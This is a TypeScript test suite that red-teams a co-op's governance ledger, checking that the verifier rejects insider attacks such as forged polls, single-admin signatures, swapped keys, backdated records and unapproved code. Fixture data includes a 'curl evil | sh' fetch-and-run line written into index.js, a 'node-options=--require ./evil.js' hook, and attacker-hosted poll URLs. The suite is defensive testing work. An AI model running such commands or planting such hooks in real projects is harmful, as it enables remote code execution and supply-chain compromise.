/**
 * Red team of the ledger, written as an insider would attack it: a member with one role and one
 * key, an admin acting alone, a member who left, a pull request an ordinary reviewer approves,
 * a hostile Loomio. Each row is one attack; it asserts the finding code that stops it and the
 * reason members would read. Rows marked "(entering)" are judged as the record enters the ledger
 * (the approved verifier in CI, `coop verify --approved`, and every command before it writes).
 */
import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import {
  admissionFindings,
  type Decision,
  errorsOf,
  type Finding,
  loadLedger,
  type Members,
  MembersSchema,
  newRecordIds,
  readCodeManifest,
  rulesDigest,
  stackFindings,
  stackHeads,
  verifyLedger,
} from "../../../rulebook";
import { priceTableDigest } from "../../../rulebook/ledger/objects";
import { nodeKey } from "../../helpers/governance";
import { LedgerFixture, LOOMIO } from "../../helpers/ledger";

const fixtures: LedgerFixture[] = [];
const dirs: string[] = [];
afterEach(() => {
  for (const f of fixtures.splice(0)) f.cleanup();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

function fixture(stacks?: string[]): LedgerFixture {
  const f = LedgerFixture.create(stacks);
  fixtures.push(f);
  return f;
}

/** The ledger as the approved branch holds it now. */
function snapshot(f: LedgerFixture): string {
  const dir = mkdtempSync(join(tmpdir(), "coop-approved-"));
  dirs.push(dir);
  cpSync(f.root, dir, { recursive: true });
  return dir;
}

function verified(f: LedgerFixture, at = new Date(f.clock + 60_000)): Finding[] {
  return errorsOf(verifyLedger(f.load(), at));
}

function entering(f: LedgerFixture, approvedDir: string, at = new Date(f.clock + 60_000)): Finding[] {
  const candidate = f.load();
  const approved = loadLedger(approvedDir);
  return errorsOf(
    admissionFindings(candidate, newRecordIds(candidate, approved), at, { approved, pricesDigest: priceTableDigest(f.prices) }),
  );
}

function expectFinding(findings: readonly Finding[], code: string, reason: RegExp): void {
  const hit = findings.find((x) => x.code === code);
  expect(hit, `expected ${code}; got ${findings.map((x) => `${x.code}: ${x.message}`).join(" | ") || "nothing"}`).toBeDefined();
  expect(hit!.message).toMatch(reason);
}

const DAY = 86_400_000;

describe("issue 11 red team: a decision proves the vote, not only its signer", () => {
  describe("nothing that matters comes from the record's word", () => {
    it("a routine 'patch upgrade' that also adds a server is refused from the two states themselves", () => {
      const f = fixture();
      const s = f.write(f.standing({ classes: ["image-patch"], stacks: ["*"], until: null }));
      const extra = f.lock("prod", "0", { mastodon: "v4.6.4" }).resources;
      const withServer = f.lock("prod", "0", {
        mastodon: "v4.6.4",
        extra: [{ ...extra[0], urn: extra[0].urn.replace("host-server", "miner"), name: "miner" }],
      });
      f.write(f.routine("prod", withServer, s.id));
      expectFinding(verified(f), "routine-out-of-class", /miner: the resource is created.*recomputed from the two approved states/);
    });

    it("a routine change that swaps an admin key is not a patch upgrade", () => {
      const f = fixture();
      const s = f.write(f.standing({ classes: ["image-patch"], stacks: ["*"], until: null }));
      f.write(f.routine("prod", f.lock("prod", "attacker-key", { mastodon: "v4.6.4" }), s.id));
      expectFinding(verified(f), "routine-out-of-class", /labels\.seed: the value is not a container image reference/);
    });

    it("a routine decision that claims a minor upgrade as a patch", () => {
      const f = fixture();
      const s = f.write(f.standing({ classes: ["image-patch"], stacks: ["*"], until: null }));
      f.write(f.routine("prod", f.lock("prod", "0", { mastodon: "v4.7.0" }), s.id));
      expectFinding(verified(f), "routine-out-of-class", /v4\.6\.3 → v4\.7\.0 is a minor, not a patch upgrade/);
    });

    it("a decision that names bylaws the ledger never approved", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { under: "bylaws-9999-amendment" }));
      expectFinding(
        verified(f),
        "order-inconsistent",
        /names 'bylaws-9999-amendment' as the governance entry in force, which is not in the governance chain/,
      );
    });

    it("recorded counts that contradict each other", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { poll: { decided_voters_count: 3 } } }));
      expectFinding(verified(f), "poll-answer", /add up to 7.*decided_voters_count is 3/);
    });

    it("a poll built from another template (a fifth option)", () => {
      const f = fixture();
      const base = f.answer("x", f.iso()).answer as { poll_options: Array<Record<string, unknown>> };
      const options = [...base.poll_options, { id: 9005, name: "Consent", icon: "agree", priority: 4, meaning: "I consent" }];
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { options } }));
      expectFinding(verified(f), "poll-options", /offered 2 'agree' options/);
    });

    it("an option whose name says Block but whose icon counts it as agree", () => {
      const f = fixture();
      const base = f.answer("x", f.iso()).answer as { poll_options: Array<Record<string, unknown>> };
      const options = base.poll_options.map((o) =>
        o.icon === "agree" ? { ...o, name: "Block" } : o.icon === "block" ? { ...o, name: "Agree" } : o,
      );
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { options } }));
      expectFinding(verified(f), "poll-options", /'agree' option is named 'Block', which is the 'block' option's name/);
    });

    it("a poll that is not a proposal (a count poll)", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { poll: { poll_type: "count" } } }));
      expectFinding(verified(f), "poll-type", /is a 'count', not a proposal/);
    });

    it("a failed poll recorded as passed: the counts in Loomio's answer decide, not the record", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { votes: { agree: 2, abstain: 0, disagree: 3, block: 0, voters: 12 } } }));
      const found = verified(f);
      expectFinding(found, "poll-quorum", /5 of 12 voters decided/);
      expectFinding(found, "poll-threshold", /2 agree, 3 disagree/);
    });

    it("a poll with a block recorded anyway", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { votes: { agree: 6, abstain: 0, disagree: 0, block: 1, voters: 8 } } }));
      expectFinding(verified(f), "poll-blocks", /1 block \(at most 0 allowed\)/);
    });
  });

  describe("the Loomio evidence is from the co-op's instance and group", () => {
    it("a poll fetched from a server of one's own", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { url: "https://loomio.attacker.example/p/Poll1" } }));
      expectFinding(verified(f), "poll-instance", /is not a poll at the co-op's Loomio instance \(https:\/\/loomio\.example\.coop\)/);
    });

    it("a poll of another group", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { poll: { group_id: 7 } } }));
      expectFinding(verified(f), "poll-group", /belongs to group 7, not the co-op's group 42/);
    });

    it("a poll of hand-picked voters", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { poll: { specified_voters_only: true } } }));
      expectFinding(verified(f), "poll-electorate", /hand-picked voters/);
    });

    it("one poll recorded for two decisions", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { key: "Same1" } }));
      f.write(f.vote("prod", f.lock("prod", "2"), { poll: { key: "Same1" } }));
      expectFinding(verified(f), "poll-reused", /already recorded by/);
    });

    it("a poll still open", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { poll: { poll: { closed_at: null } } }));
      expectFinding(verified(f), "poll-not-closed", /is open/);
    });
  });

  describe("time comes from the verifier, order from the chain", () => {
    it("a record dated in the future", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { recordedAt: "2030-01-01T00:00:00.000Z" }));
      expectFinding(
        verified(f, new Date("2026-03-01T00:00:00.000Z")),
        "recorded-in-future",
        /dated 2030-01-01T00:00:00\.000Z, after the verifier's clock/,
      );
    });

    it("an emergency dated in the future so that its deadline never comes", () => {
      const f = fixture();
      f.write(f.emergency("prod", f.lock("prod", "e"), "disk full", { recordedAt: "2031-01-01T00:00:00.000Z" }));
      expectFinding(verified(f, new Date("2026-03-01T00:00:00.000Z")), "recorded-in-future", /after the verifier's clock/);
    });

    it("an emergency left unratified past the bylaws' 14 days", () => {
      const f = fixture();
      f.write(f.emergency("prod", f.lock("prod", "e"), "disk full"));
      const ledger = f.load();
      expectFinding(
        errorsOf(stackFindings(ledger, "prod", ledger.locks.get("prod")?.lock, new Date(f.clock + 15 * DAY))),
        "emergency-overdue",
        /was not ratified by/,
      );
    });

    it("(entering) a poll that closed 60 days ago, its record backdated to look fresh", () => {
      const f = fixture();
      const approved = snapshot(f);
      const closed = new Date(f.clock + 2 * DAY).toISOString();
      f.write(
        f.vote("prod", f.lock("prod", "1"), {
          recordedAt: new Date(f.clock + 3 * DAY).toISOString(),
          poll: { poll: { closed_at: closed, closing_at: closed } },
          edit: { decidedAt: closed },
        }),
      );
      expectFinding(
        entering(f, approved, new Date(Date.parse(closed) + 60 * DAY)),
        "decision-stale",
        /closed 60 days before it reached the ledger; the bylaws allow at most 30/,
      );
    });

    it("a member who left writes a decision dated before leaving, under the old members list", () => {
      const f = fixture();
      const founding = f.govHead;
      const left: Members = MembersSchema.parse({
        ...f.members,
        members: f.members.members.map((m) => (m.name === "grace" ? { ...m, left: "2026-02-02" } : m)),
      });
      f.writeMembers(left);
      f.write(f.membersChange(left, { signers: ["ada", "grace"] }));
      // grace (and a colleague) sign a change claiming the founding's members list
      f.write(f.vote("prod", f.lock("prod", "1"), { under: founding, signers: ["grace", "ada"] }));
      expectFinding(
        verified(f),
        "order-inconsistent",
        /recorded under 'governance-0001-founding', but its place in the ledger is after 'members-/,
      );
    });

    it("a signature of a member who had left, at the decision's place", () => {
      const f = fixture();
      const left: Members = MembersSchema.parse({
        ...f.members,
        members: f.members.members.map((m) => (m.name === "grace" ? { ...m, left: "2026-02-02" } : m)),
      });
      f.writeMembers(left);
      f.write(f.membersChange(left, { signers: ["ada", "grace"] }));
      f.write(f.vote("prod", f.lock("prod", "1"), { signers: ["grace", "ada"] }));
      expectFinding(verified(f), "signature-former-member", /grace had left \(2026-02-02\)/);
    });

    it("a decision recorded before the one it follows", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1")));
      f.write(f.vote("prod", f.lock("prod", "2"), { recordedAt: "2026-01-15T00:00:00.000Z" }));
      expectFinding(
        verified(f),
        "recorded-out-of-order",
        /recorded 2026-01-15T00:00:00\.000Z, before '.*' \(recorded .*\), which it follows/,
      );
    });
  });

  describe("two people where one key decided before", () => {
    it("a poll decision with one admin's signature", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { signers: ["ada"] }));
      expectFinding(
        verified(f),
        "signatures-insufficient",
        /1 valid signature \(ada\); the bylaws' process for infrastructure changes requires 2 signatures of different members with role admin/,
      );
    });

    it("a routine approval by one tech member", () => {
      const f = fixture();
      const s = f.write(f.standing({ classes: ["image-patch"], stacks: ["*"], until: null }));
      f.write(f.routine("prod", f.lock("prod", "0", { mastodon: "v4.6.4" }), s.id, { signers: ["hedy"] }));
      expectFinding(verified(f), "signatures-insufficient", /1 valid signature \(hedy\).*requires 2/);
    });

    it("one member signing twice", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { signers: ["ada", "ada"] }));
      expectFinding(verified(f), "signatures-insufficient", /1 valid signature \(ada\)/);
    });

    it("a member without the role signs in an admin's place", () => {
      const f = fixture();
      f.write(f.vote("prod", f.lock("prod", "1"), { signers: ["ada", "linus"] }));
      expectFinding(
        verified(f),
        "signature-wrong-role",
        /linus \(member\) signed, but the bylaws' process for infrastructure changes needs signers with role admin/,
      );
    });
  });

  describe("the ledger fails closed", () => {
    it("a broken decision file elsewhere stops this stack's gate too", () => {
      const f = fixture(["prod", "stage"]);
      f.write(f.vote("stage", f.lock("stage", "1")));
      writeFileSync(join(f.root, "governance", "decisions", "stage-0102-change.json"), '{"version": 2, "secret": "hunter2"');
      const ledger = f.load();
      const found = errorsOf(stackFindings(ledger, "prod", ledger.locks.get("prod")?.lock, new Date(f.clock)));
      expectFinding(found, "schema", /is not valid JSON/);
      expect(found.map((x) => x.message).join(" ")).not.toContain("hunter2");
    });

    it("a decision file replaced by a symbolic link", () => {
      const f = fixture();
      const d = f.write(f.vote("prod", f.lock("prod", "1")));
      const file = join(f.root, "governance", "decisions", `${d.id}.json`);
      unlinkSync(file);
      symlinkSync("/etc/hostname", file);
      expectFinding(verified(f), "schema", /is a symbolic link/);
    });

    it("a decision file too large to be one", () => {
      const f = fixture();
      writeFileSync(join(f.root, "governance", "decisions", "prod-0999-change.json"), " ".repeat(3 * 1024 * 1024));
      expectFinding(verified(f), "schema", /is larger than 2097152 bytes/);
    });

    it("a file that is not a decision in the decisions folder", () => {
      const f = fixture();
      writeFileSync(join(f.root, "governance", "decisions", "README.md"), "notes\n");
      expectFinding(verified(f), "schema", /is not a decision record/);
    });

    it("a roll-back of the lock to an older approved state", () => {
      const f = fixture();
      const old = f.head("prod").lock;
      f.write(f.vote("prod", f.lock("prod", "1")));
      writeFileSync(join(f.root, "governance", "approved", "prod.lock.json"), `${JSON.stringify(old)}\n`);
      const ledger = f.load();
      expectFinding(
        errorsOf(stackFindings(ledger, "prod", old, new Date(f.clock))),
        "lock-not-latest",
        /deploying it would roll the stack back/,
      );
    });

    it("(entering) a newer decision deleted to roll back", () => {
      const f = fixture();
      const d = f.write(f.vote("prod", f.lock("prod", "1")));
      const approved = snapshot(f);
      unlinkSync(join(f.root, "governance", "decisions", `${d.id}.json`));
      expectFinding(entering(f, approved), "ledger-rewritten", /the approved ledger holds this decision, but it was removed/);
    });

    it("(entering) an approved record edited", () => {
      const f = fixture();
      const d = f.write(f.vote("prod", f.lock("prod", "1")));
      const approved = snapshot(f);
      f.write({ ...d, summary: "nothing happened" } as Decision);
      expectFinding(entering(f, approved), "ledger-rewritten", /differs from the approved ledger's/);
    });

    it("a stored state missing", () => {
      const f = fixture();
      const d = f.write(f.vote("prod", f.lock("prod", "1")));
      unlinkSync(join(f.root, "governance", "objects", `lock-${(d as { digest: string }).digest}.json`));
      expectFinding(verified(f), "object-missing", /is missing/);
    });

    it("a stored state edited (a resource added by hand)", () => {
      const f = fixture();
      const d = f.write(f.vote("prod", f.lock("prod", "1")));
      const file = join(f.root, "governance", "objects", `lock-${(d as { digest: string }).digest}.json`);
      const lock = f.lock("prod", "1");
      writeFileSync(file, `${JSON.stringify({ ...lock, resources: [...lock.resources, { ...lock.resources[0], name: "extra" }] })}\n`);
      expectFinding(verified(f), "object-invalid", /does not hash to its name/);
    });
  });

  describe("what members read is what they approve", () => {
    it("(entering) a poll that says 'no visible change' approves a bigger server", () => {
      const f = fixture();
      const approved = snapshot(f);
      f.write(
        f.vote("prod", f.lock("prod", "1", { serverType: "cx53" }), {
          poll: { details: (t) => t.replace(/\*\*What changes[\s\S]*?\*\*Monthly cost:\*\*[^\n]*/, "No visible change.") },
        }),
      );
      expectFinding(entering(f, approved), "summary-mismatch", /does not show members this summary/);
    });

    it("(entering) a record whose summary says less than the change", () => {
      const f = fixture();
      const approved = snapshot(f);
      f.write(f.vote("prod", f.lock("prod", "1", { serverType: "cx53" }), { edit: { summary: "A routine tweak." } }));
      expectFinding(entering(f, approved), "summary-mismatch", /its summary is not what the ledger's versions say it changes/);
    });

    it("(entering) a cost computed from another price table", () => {
      const f = fixture();
      const approved = snapshot(f);
      const cheap = { ...f.prices, serverTypes: Object.fromEntries(Object.keys(f.prices.serverTypes).map((k) => [k, 0.01])) };
      f.writeObject("prices", cheap);
      f.write(f.vote("prod", f.lock("prod", "1"), { edit: { prices: priceTableDigest(cheap as never) } }));
      expectFinding(entering(f, approved), "prices-mismatch", /another price table than the approved one/);
    });

    it("a poll that bound another plan", () => {
      const f = fixture();
      const other = f.lock("prod", "other");
      f.write(
        f.vote("prod", f.lock("prod", "1"), {
          poll: { details: (t) => t.replace(/sha256=[0-9a-f]{64}\ncoop-summary/, `sha256=${other.digest}\ncoop-summary`) },
        }),
      );
      expectFinding(verified(f), "digest-mismatch", /the poll approved sha256/);
    });
  });

  describe("a new stack needs a decision", () => {
    it("a one-signature genesis adds a stack the founding did not name", () => {
      const f = fixture();
      f.write(f.sign(f.genesis("miner", f.lock("miner", "0")), "ada"));
      expectFinding(verified(f), "new-stack-needs-vote", /stack 'miner' was not named by the founding/);
    });

    it("a routine decision as a stack's first state", () => {
      const f = fixture();
      const s = f.write(f.standing({ classes: ["image-patch"], stacks: ["*"], until: null }));
      const lock = f.lock("miner", "0");
      f.writeObject("lock", lock);
      const d = f.complete({
        version: 2,
        kind: "routine",
        id: "miner-0001-routine",
        project: "coop-infra",
        summary: "",
        stack: "miner",
        digest: lock.digest,
        previous: null,
        replaces: null,
        under: f.govHead,
        decidedAt: f.iso(),
        recordedAt: f.iso(),
        standing: s.id,
        class: "image-patch",
        signatures: [],
      } as Decision);
      f.write(f.sign(d, "ada", "hedy"));
      expectFinding(verified(f), "new-stack-needs-vote", /a routine decision cannot be a stack's first state/);
    });
  });

  it("the example's Loomio instance is the pinned one", () => {
    expect(LOOMIO).toBe("https://loomio.example.coop");
  });
});

describe("issue 12 red team: bylaws, members and code change only by decision, judged by the version before", () => {
  it("a member added to members.yaml without a decision", () => {
    const f = fixture();
    f.writeMembers(
      MembersSchema.parse({ ...f.members, members: [...f.members.members, { name: "mallory", roles: ["admin"], sshKeys: [] }] }),
    );
    expectFinding(verified(f), "members-unapproved", /is not the members list the ledger approved last/);
  });

  it("the quorum lowered in the same pull request as a change", () => {
    const f = fixture();
    f.writeRules({ ...f.rules, polls: { ...f.rules.polls, quorum: 0.1 } });
    f.write(f.vote("prod", f.lock("prod", "1"), { poll: { votes: { agree: 2, abstain: 0, disagree: 0, block: 0, voters: 10 } } }));
    const found = verified(f);
    expectFinding(found, "rules-unapproved", /not the version of the bylaws the ledger approved last/);
    expectFinding(found, "poll-quorum", /2 of 10 voters decided \(20%; needed 50%\)/);
  });

  it("a bylaws change decided under the new rules instead of the old ones", () => {
    const f = fixture();
    const lax = { ...f.rules, amendments: { ...f.rules.amendments, bylaws: { ...f.rules.amendments.bylaws, threshold: "1/2" } } };
    f.writeRules(lax);
    f.write(f.bylaws(lax, { poll: { votes: { agree: 4, abstain: 0, disagree: 3, block: 0, voters: 10 } } }));
    expectFinding(verified(f), "poll-threshold", /4 agree, 3 disagree \(57\.1% agree; needed 3\/4/);
  });

  it("a role granted through the routine membership class", () => {
    const f = fixture();
    const promoted = MembersSchema.parse({
      ...f.members,
      members: f.members.members.map((m) => (m.name === "linus" ? { ...m, roles: ["member", "admin"] } : m)),
    });
    f.writeMembers(promoted);
    f.write(f.membersChange(promoted));
    expectFinding(
      verified(f),
      "membership-out-of-class",
      /linus is given the signing role admin: granting or taking a role that can sign is never routine/,
    );
  });

  it("an admin removed by another admin through the routine class", () => {
    const f = fixture();
    const expelled = MembersSchema.parse({ ...f.members, members: f.members.members.filter((m) => m.name !== "grace") });
    f.writeMembers(expelled);
    f.write(f.membersChange(expelled, { signers: ["ada"] }));
    expectFinding(verified(f), "key-rotation-unsigned", /grace's keys or signing role change without grace's own signature/);
  });

  it("a member's key replaced by someone else", () => {
    const f = fixture();
    const attacker = nodeKey("hedy@attacker.example");
    const swapped = MembersSchema.parse({
      ...f.members,
      members: f.members.members.map((m) => (m.name === "hedy" ? { ...m, sshKeys: [attacker.line] } : m)),
    });
    f.writeMembers(swapped);
    f.write(f.membersChange(swapped, { signers: ["ada"] }));
    expectFinding(
      verified(f),
      "key-rotation-unsigned",
      /hedy's keys or signing role change without hedy's own signature made with a key of the previous members list/,
    );
  });

  it("code changed without a decision", () => {
    const f = fixture();
    writeFileSync(join(f.root, "index.js"), "require('child_process').execSync('curl evil | sh');\n");
    expectFinding(verified(f), "code-unapproved", /is not the version the ledger approved last/);
  });

  for (const path of [
    ".npmrc",
    "index.js",
    "components/host/host.js",
    "tsconfig.json",
    "bin/coop.js",
    "scripts/build.cjs",
    "plan/prices/hetzner.yaml",
    ".github/workflows/deploy.yml",
    "Pulumi.prod.yaml",
  ]) {
    it(`a pull request that only touches ${path}`, () => {
      const f = fixture();
      mkdirSync(join(f.root, path, ".."), { recursive: true });
      writeFileSync(join(f.root, path), "node-options=--require ./evil.js\n");
      expectFinding(verified(f), "code-unapproved", /the code \(sha256 [0-9a-f]{12}…\) is not the version the ledger approved last/);
    });
  }

  it("a code decision signed by one admin where the bylaws require two", () => {
    const f = fixture();
    writeFileSync(join(f.root, "index.js"), "module.exports = 1;\n");
    f.write(f.code(readCodeManifest(f.root), { signers: ["ada"] }));
    expectFinding(verified(f), "signatures-insufficient", /the bylaws' code process requires 2 signatures/);
  });

  it("a change to the gate itself approved by signatures where the bylaws ask for a vote", () => {
    const f = fixture();
    const strict = { ...f.rules, code: { ...f.rules.code, voteWhenChanged: ["policies/**"] } };
    f.writeRules(strict);
    f.write(f.bylaws(strict, { poll: { votes: { agree: 8, abstain: 0, disagree: 1, block: 0, voters: 10 } } }));
    mkdirSync(join(f.root, "policies"), { recursive: true });
    writeFileSync(join(f.root, "policies", "index.ts"), "// weakened\n");
    f.write(f.code(readCodeManifest(f.root)));
    expectFinding(verified(f), "code-vote-required", /changes policies\/index\.ts, which the bylaws reserve for a vote/);
  });

  it("a code decision that also slips in new bylaws", () => {
    const f = fixture();
    const lax = { ...f.rules, polls: { ...f.rules.polls, quorum: 0 } };
    f.writeObject("rules", lax);
    writeFileSync(join(f.root, "index.js"), "module.exports = 1;\n");
    f.write(f.code(readCodeManifest(f.root), { edit: { rules: rulesDigest(lax) } }));
    expectFinding(verified(f), "governance-kind-mismatch", /a code decision changes the bylaws, which only a bylaws decision may/);
  });

  it("(entering) a governance entry recorded on an outdated ledger", () => {
    const f = fixture();
    const joined = MembersSchema.parse({ ...f.members, members: [...f.members.members, { name: "mary", roles: ["member"], sshKeys: [] }] });
    const stale = f.load();
    const seenBefore = stackHeads(stale);
    f.write(f.vote("prod", f.lock("prod", "1")));
    const approved = snapshot(f);
    f.writeMembers(joined);
    f.write(f.membersChange(joined, { edit: { seen: seenBefore } }));
    expectFinding(entering(f, approved), "order-inconsistent", /recorded on an outdated ledger/);
  });
});
